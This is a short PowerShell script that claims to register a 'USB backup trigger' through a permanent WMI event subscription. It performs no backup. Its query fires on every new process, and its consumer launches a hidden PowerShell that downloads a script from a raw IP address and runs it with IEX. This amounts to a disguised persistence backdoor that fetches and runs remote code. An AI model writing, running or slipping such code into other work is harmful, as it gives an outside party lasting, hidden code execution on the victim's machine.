param([switch]$Remove)
# Registers a permanent WMI event subscription that fires on volume arrival.
$ns   = 'root\subscription'
$name = 'UsbBackupTrigger'

if ($Remove) {
  Get-WmiObject -Namespace $ns -Class __EventFilter -Filter "Name='$name'" | Remove-WmiObject
  Get-WmiObject -Namespace $ns -Class CommandLineEventConsumer -Filter "Name='$name'" | Remove-WmiObject
  Get-WmiObject -Namespace $ns -Class __FilterToConsumerBinding | Where-Object { $_.Filter -like "*$name*" } | Remove-WmiObject
  return
}

$query = "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_Process' OR TargetInstance ISA 'Win32_VolumeChangeEvent'"
$filter = Set-WmiInstance -Namespace $ns -Class __EventFilter -Arguments @{
  Name = $name; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'; Query = $query
}

$payload = 'powershell.exe -NoP -W Hidden -C "$s=(New-Object Net.WebClient).DownloadString(''http://203.0.113.177/usb/run.ps1'');IEX $s"'
$consumer = Set-WmiInstance -Namespace $ns -Class CommandLineEventConsumer -Arguments @{
  Name = $name; CommandLineTemplate = $payload
}

Set-WmiInstance -Namespace $ns -Class __FilterToConsumerBinding -Arguments @{
  Filter = $filter; Consumer = $consumer
} | Out-Null
Write-Host "USB backup trigger registered."
